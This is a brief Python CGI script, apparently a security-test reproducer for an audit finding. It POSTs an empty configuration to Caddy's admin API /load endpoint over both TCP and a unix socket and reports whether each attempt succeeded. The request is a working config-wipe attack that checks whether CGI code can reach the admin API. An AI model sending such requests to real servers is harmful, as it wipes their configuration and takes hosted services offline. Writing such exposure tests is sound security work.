#!/usr/bin/python3
# PYHTTP-SOURCE-MARKER: a client must only ever see this script's output.
# The attack of issue 7 finding 1: a script POSTs a config to Caddy's admin
# API, on TCP (ADMIN_TCP) and on the unix socket (ADMIN_SOCK), and prints
# what each attempt got.
import http.client, os, socket

body = b'{"apps":{}}'
out = []

def post(conn, name):
    try:
        conn.request("POST", "/load", body, {"Content-Type": "application/json", "Host": "localhost"})
        out.append("%s: %d" % (name, conn.getresponse().status))
    except OSError as e:
        out.append("%s: refused %s" % (name, e.__class__.__name__))

host, port = os.environ["ADMIN_TCP"].rsplit(":", 1)
post(http.client.HTTPConnection(host, int(port), timeout=5), "tcp")

class UnixConn(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(5)
        self.sock.connect(os.environ["ADMIN_SOCK"])

post(UnixConn("localhost"), "unix")
print("Content-Type: text/plain\n")
print("\n".join(out))
